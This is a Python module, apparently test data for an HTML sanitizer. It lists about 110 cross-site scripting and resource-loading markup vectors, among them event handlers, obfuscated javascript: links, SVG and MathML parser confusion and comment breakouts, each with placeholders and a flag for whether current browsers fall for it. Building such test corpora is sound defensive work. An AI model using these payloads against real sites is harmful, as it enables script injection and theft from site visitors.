"""Markup that makes a browser run a script or load something, one row a kind.

`CALL` is where a script goes: it calls `top.tripped`, which the page around records. `ADDRESS` is
an address, and a request for it counts as well. A row's *trips* says whether a current browser
falls for the markup where it is not sanitized; the others were written for browsers of the past or
need a reader who is deceived.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

CALL, ADDRESS = "CALL", "ADDRESS"
SHARED = Path(__file__).resolve().parents[3] / "shared" / "attack" / "html-payloads.json"


@dataclass(frozen=True, slots=True)
class Payload:
    """A kind of attack, its markup, and whether a current browser falls for it."""

    name: str
    markup: str
    trips: bool = True

    def aimed(self, call: str, address: str) -> str:
        """The markup with what it is to run and to ask for."""
        return self.markup.replace(CALL, call).replace(ADDRESS, address)


OWN: tuple[Payload, ...] = (
    # Handlers, which need no element of their own.
    Payload("image that fails", "<img src=x: onerror=CALL>"),
    Payload("image that fails, spelt oddly", "<IMG\fSRC=x: OnErRoR\n=\n'CALL'>"),
    Payload("slashes for blanks", "<img/src='x:'/onerror=CALL>"),
    Payload("image by its other name", "<image src=x: onerror=CALL>"),
    Payload("quote that is not closed", '<img src="x:" alt=\'" onerror=CALL \' onerror=CALL>'),
    Payload("handler without a blank", '<img src="x:"onerror="CALL">'),
    Payload("handler in references", "<img src=x: onerror=&#116;op.tripped&lpar;NUMBER&rpar;>"),
    Payload("pointer", "<p onmouseover=CALL>Put your pointer here.</p>"),
    Payload("click", "<b onclick=CALL>Click me.</b>"),
    Payload("focus", "<p tabindex=1 autofocus onfocus=CALL>Focus.</p>"),
    Payload("editable focus", "<p contenteditable autofocus onfocus=CALL>Focus.</p>"),
    Payload("field with focus", "<input autofocus onfocus=CALL>"),
    Payload("details that are open", "<details open ontoggle=CALL><summary>x</summary>y</details>"),
    Payload("marquee", "<marquee onstart=CALL>Moving.</marquee>", trips=False),
    Payload("sound", "<audio src=x: onerror=CALL></audio>"),
    Payload("film and source", "<video><source src=x: onerror=CALL></video>"),
    Payload(
        "animation", "<style>@keyframes k{}</style><p style='animation:k' onanimationstart=CALL>"
    ),
    Payload("body in the text", "<body onload=CALL>"),
    Payload("body that scrolls", "<body onpageshow=CALL>"),
    Payload("style that is loaded", "<style onload=CALL>p{}</style>"),
    # Scripts and documents.
    Payload("script", "<script>CALL</script>"),
    Payload("script, spelt oddly", "<ScRiPt/x='>'>CALL</sCrIpT\n>"),
    Payload("script that is not closed", "<script>CALL//", trips=False),
    Payload("script of another place", "<script src=ADDRESS></script>"),
    Payload("script of data", "<script src='data:text/javascript,CALL'></script>"),
    Payload("module", "<script type=module>CALL</script>"),
    Payload("script in a script", "<scr<script>ipt>CALL</scr</script>ipt>", trips=False),
    Payload("script after its end", "<script></script x><script>CALL</script>"),
    Payload(
        "shadow tree",
        "<div><template shadowrootmode=open><img src=x: onerror=CALL></template></div>",
        trips=False,
    ),
    Payload("frame of a script", "<iframe src='javascript:CALL'></iframe>"),
    Payload("frame of its own source", "<iframe srcdoc='&lt;script>CALL&lt;/script>'></iframe>"),
    Payload("frame of another place", "<iframe src=ADDRESS></iframe>"),
    Payload("object", "<object data=ADDRESS></object>"),
    Payload("embedded", "<embed src=ADDRESS>"),
    Payload("applet", "<applet code=ADDRESS archive=ADDRESS></applet>", trips=False),
    Payload("frameset", "<frameset onload=CALL><frame src=ADDRESS></frameset>", trips=False),
    Payload("portal", "<portal src=ADDRESS></portal>", trips=False),
    # Addresses.
    Payload("link to a script", "<a href=javascript:CALL>Read on</a>"),
    Payload("link with a tab in it", "<a href='java\tscript:CALL'>Read on</a>"),
    Payload("link with a line in it", "<a href='java&#10;script&colon;CALL'>Read on</a>"),
    Payload("link after a control", "<a href='&#1; javascript:CALL'>Read on</a>"),
    Payload("link in capitals", "<a href=' JaVaScRiPt:CALL'>Read on</a>"),
    Payload("link of numbers", "<a href='&#0000106avascript:CALL'>Read on</a>"),
    Payload("two links in one", "<a href=javascript:CALL href=https://good.example/>Read on</a>"),
    Payload("link to vbscript", "<a href='vbscript:CALL'>Read on</a>", trips=False),
    Payload("link to data", "<a href='data:text/html,<script>CALL</script>'>x</a>", trips=False),
    Payload("link to much blank data", f"<a href='{' ' * 90}data:text/html,x'>x</a>", trips=False),
    Payload("link with a base", "<base href='javascript:/'><a href='/*/CALL'>x</a>", trips=False),
    Payload(
        "link that a base leads away", "<base href='//bad.example'><a href=x>x</a>", trips=False
    ),
    Payload("map", "<map name=m><area href=javascript:CALL></map>"),
    Payload("link that tells", "<a href=https://good.example/ ping=ADDRESS>x</a>", trips=False),
    Payload("image of a script", "<img src=javascript:CALL>", trips=False),
    Payload(
        "image of a drawing", "<img src=\"data:image/svg+xml,<svg onload='CALL'/>\">", trips=False
    ),
    Payload("poster", "<video poster=ADDRESS></video>"),
    Payload("old background", "<table background=ADDRESS><tr><td>x</table>"),
    # Other things of a page.
    Payload("style", "<style>@import 'ADDRESS';</style>"),
    Payload("style of an element", "<p style='background:url(ADDRESS)'>Text.</p>"),
    Payload("style sheet", "<link rel=stylesheet href=ADDRESS>"),
    Payload("script to come", "<link rel=modulepreload href=ADDRESS>"),
    Payload("page to come", "<link rel=prefetch href=ADDRESS>", trips=False),
    Payload("going elsewhere", "<meta http-equiv=refresh content='0;url=ADDRESS'>"),
    Payload(
        "policy",
        "<meta http-equiv=content-security-policy content=\"img-src 'none'\">",
        trips=False,
    ),
    Payload("form", "<form action=javascript:CALL><button>Send</button></form>"),
    Payload("button of a form", "<form><button formaction=javascript:CALL>Send</button></form>"),
    Payload("image of a form", "<form action=javascript:CALL><input type=image src=x:></form>"),
    Payload(
        "names of ours", "<a id=document name=cookie></a><img name=getElementById>", trips=False
    ),
    Payload(
        "cover", "<div class='modal fixed-top' style='position:fixed;inset:0'>x</div>", trips=False
    ),
    # Drawings and formulas, where other rules of parsing hold.
    Payload("drawing", "<svg onload=CALL>"),
    Payload("drawing with a script", "<svg><script>CALL</script></svg>"),
    Payload(
        "script of a drawing, in references", "<svg><script>top&#46;tripped(NUMBER)</script></svg>"
    ),
    Payload("drawing that moves", "<svg><animate onbegin=CALL attributeName=x dur=1s /></svg>"),
    Payload(
        "link of a drawing",
        "<svg><a xlink:href=javascript:CALL><text y=9>x</text></a></svg>",
        trips=False,
    ),
    Payload(
        "link that is set",
        "<svg><a><animate attributeName=href values=javascript:CALL /><text y=9>x</text></a></svg>",
        trips=False,
    ),
    Payload(
        "page in a drawing", "<svg><foreignObject><img src=x: onerror=CALL></foreignObject></svg>"
    ),
    Payload("formula", "<math><mtext><img src=x: onerror=CALL></mtext></math>"),
    Payload("link of a formula", "<math href=javascript:CALL><mi>x</mi></math>", trips=False),
    # What parsers read differently.
    Payload("comment that ends early", "<!-- a --!><img src=x: onerror=CALL> -->"),
    Payload("comment that is empty", "<!--><img src=x: onerror=CALL>-->"),
    Payload("comment that is nearly empty", "<!---><img src=x: onerror=CALL>-->"),
    Payload("comment in a comment", "<!-- <!-- --><img src=x: onerror=CALL> -->"),
    Payload("declaration", "<!a '><img src=x: onerror=CALL>'>"),
    Payload("instruction", "<?a '><img src=x: onerror=CALL>'?>"),
    Payload("section", "<![CDATA[><img src=x: onerror=CALL>]]>"),
    Payload(
        "section of a drawing",
        "<svg><![CDATA[</svg>]]><p title='</svg><img src=x: onerror=CALL>'></svg>",
        trips=False,
    ),
    Payload("closing tag of a number", "</1 '><img src=x: onerror=CALL>'>"),
    Payload("equals sign for a name", '<a ="><img src=x: onerror=CALL>">x</a>'),
    Payload("quote in a name", '<p a"><img src=x: onerror=CALL>">x</p>'),
    Payload("title", "<title><p title='</title><img src=x: onerror=CALL>'></title>"),
    Payload("text field", "<textarea><p title='</textarea><img src=x: onerror=CALL>'></textarea>"),
    Payload("old preformatted text", "<xmp><p title='</xmp><img src=x: onerror=CALL>'></xmp>"),
    Payload("frame's text", "<iframe><p title='</iframe><img src=x: onerror=CALL>'></iframe>"),
    Payload("no embedding", "<noembed><p title='</noembed><img src=x: onerror=CALL>'></noembed>"),
    Payload("no frames", "<noframes><p title='</noframes><img src=x: onerror=CALL>'></noframes>"),
    Payload("no scripts", "<noscript><p title='</noscript><img src=x: onerror=CALL>'></noscript>"),
    Payload(
        "style in a drawing",
        "<svg><style><img title='</style><img src=x: onerror=CALL>'></style></svg>",
        trips=False,
    ),
    Payload("style in a formula", "<math><style><img src=x: onerror=CALL></style></math>"),
    Payload(
        "form in a form",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=CALL>",
        trips=False,
    ),
    Payload(
        "style in a list of choices",
        "<select><style></select><img src=x: onerror=CALL></style></select>",
        trips=False,
    ),
    Payload(
        "parts of a table", "<table><td><svg><desc><table><img src=x: onerror=CALL></table></svg>"
    ),
    Payload(
        "very deep",
        "<div>" * 600 + "<svg><style><a title='</style><img src=x: onerror=CALL>'>",
        trips=False,
    ),
    Payload("zero in a name", "<scr\x00ipt>CALL</scr\x00ipt>", trips=False),
    Payload("prefix", "<svg:script>CALL</svg:script>", trips=False),
    Payload("long s", "<\u017fcript>CALL</\u017fcript>", trips=False),
    Payload("half of a pair", "<img src=x: \ud800 onerror=CALL>"),
    Payload("written as text", "&lt;img src=x: onerror=CALL&gt;", trips=False),
    Payload("written as text twice", "&amp;lt;img src=x: onerror=CALL&amp;gt;", trips=False),
    Payload("text after a stray closing tag", "CALL</script> and on.", trips=False),
)


def payloads() -> list[Payload]:
    """Our own, and those of the shared folder where there is one."""
    shared = json.loads(SHARED.read_text(encoding="utf-8")) if SHARED.is_file() else {}
    return [
        *OWN,
        *(
            Payload(
                f"shared: {name}",
                markup.replace("alert(1)", CALL).replace("alert(2)", CALL),
                trips=False,
            )
            for name, markup in shared.items()
        ),
    ]
